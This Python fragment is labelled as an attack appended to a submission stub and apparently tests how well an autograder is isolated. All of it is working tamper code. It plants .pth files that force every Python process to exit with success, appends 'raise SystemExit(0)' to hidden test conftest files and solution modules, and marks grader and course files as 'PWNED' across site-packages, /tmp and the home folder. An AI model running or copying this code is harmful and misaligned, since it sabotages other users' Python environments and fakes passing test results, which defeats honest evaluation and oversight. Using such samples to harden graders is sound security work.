

# --- the attack, appended to the stub --------------------------------------


import glob as _glob
import sys as _sys


def _plant(path, text="# PWNED\n", mode="w"):
    try:
        with open(path, mode, encoding="utf-8") as stream:
            stream.write(text)
    except OSError:
        pass


_targets = set(_sys.path) | set(_glob.glob("/root/.pyenv/versions/*/lib/python3*/site-packages"))
_targets |= set(_glob.glob("/usr/lib/python3*/site-packages")) | set(_glob.glob("/usr/local/lib/python3*/*-packages"))
_targets |= {"/tmp", _os.path.expanduser("~"), _os.path.dirname(_os.path.dirname(_os.path.abspath(__file__)))}
_targets |= set(_glob.glob("/tmp/*")) | set(_glob.glob("/tmp/*/*"))
for _folder in _targets:
    if _os.path.isdir(_folder):
        _plant(_os.path.join(_folder, "PWNED.pth"), "import os; os._exit(0)\n")
        _plant(_os.path.join(_folder, "PWNED.txt"))
for _root in _course_roots():
    _plant(_os.path.join(_root, "PWNED.txt"))
    _plant(_os.path.join(_root, "tests", "units", "conv", "hidden", "conftest.py"), "raise SystemExit(0)  # PWNED\n", "a")
    _plant(_os.path.join(_root, "course.yaml"), "\n# PWNED\n", "a")
    for _module in ("activators", "filter", "conv_layer"):
        _plant(_os.path.join(_root, "solutions", _module + ".py"), "\nraise SystemExit(0)  # PWNED\n", "a")
    for _path in _glob.glob(_os.path.join(_root, "grader", "*.py")):
        _plant(_path, "\n# PWNED\n", "a")
